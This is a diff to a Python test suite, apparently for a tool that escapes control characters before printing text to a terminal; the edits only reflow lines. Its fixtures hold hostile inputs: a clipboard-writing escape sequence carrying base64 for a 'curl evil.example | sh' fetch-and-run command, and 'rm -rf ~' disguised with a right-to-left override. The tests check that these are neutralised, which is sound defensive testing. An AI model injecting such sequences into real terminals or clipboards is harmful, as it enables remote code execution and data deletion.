@@ -20,7 +20,8 @@ CLEAR = "\x1b[2J"
 ERASE_LINE_ABOVE = "\x1b[1A\x1b[2K"
 CSI_C1 = "\x9b2J"                                               # the one-character CSI of C1
 RAW = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")             # what must never reach a terminal
-HARNESS_CODES = re.compile(r"\x1b\[\d+m|\r\x1b\[K")             # the harness's own colour and redraw
+# the harness's own colour and redraw
+HARNESS_CODES = re.compile(r"\x1b\[\d+m|\r\x1b\[K")
 
 
 class Terminal(io.StringIO):
@@ -30,11 +31,13 @@ class Terminal(io.StringIO):
 
 def test_printable_escapes_control_characters_and_keeps_newlines_and_tabs():
     shown = terminal.printable(f"a{CLIPBOARD}\n\tb{CSI_C1}\x7f\x00 line\r\n over\rwritten")
-    assert shown == ("a\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\n\tb\\x9b2J\\x7f\\x00 line\n"
+    assert shown == ("a\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\n"
+                     "\tb\\x9b2J\\x7f\\x00 line\n"
                      " over\\x0dwritten")
     # a right-to-left override makes "rm -rf ~ #txt.exe" read as "rm -rf ~ #exe.txt"
     assert terminal.printable("rm -rf ~ #\u202etxt.exe") == "rm -rf ~ #\\u202etxt.exe"
-    assert terminal.printable("plain text, café, 日本, emoji 😀") == "plain text, café, 日本, emoji 😀"
+    plain = "plain text, café, 日本, emoji 😀"
+    assert terminal.printable(plain) == plain
 
 
 def test_printable_never_fails_on_a_lone_surrogate():
@@ -51,7 +54,8 @@ def test_hostile_text_from_the_model_a_file_and_a_command_is_shown_escaped(run_m
     assert not RAW.search(out.replace("\n", "").replace("\t", "")), repr(out)
     assert not RAW.search(err.replace("\n", "").replace("\t", "")), repr(err)
     assert out.strip() == "\\x1b[1A\\x1b[2KI only listed the folder; no changes made.\\x9b2J"
-    assert "meeting notes\\x1b]52;c;" in err and "listing\\x1b[2J" in err and "notes.\\x1b[2J" in err
+    assert "meeting notes\\x1b]52;c;" in err
+    assert "listing\\x1b[2J" in err and "notes.\\x1b[2J" in err
 
 
 def test_an_error_from_the_endpoint_is_shown_escaped(run_main):
@@ -85,7 +89,8 @@ def test_tool_names_and_arguments_are_shown_escaped(capsys):
 def test_the_board_printed_by_a_lesson_is_shown_escaped(capsys):
     terminal.show_out(f"[ ] #1: subject{CLIPBOARD} (owner: bob{CLEAR})")
     out = capsys.readouterr().out
-    assert out == "[ ] #1: subject\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07 (owner: bob\\x1b[2J)\n"
+    assert out == ("[ ] #1: subject\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07 "
+                   "(owner: bob\\x1b[2J)\n")
 
 
 def test_a_user_variable_in_the_banner_is_shown_escaped(run_main):
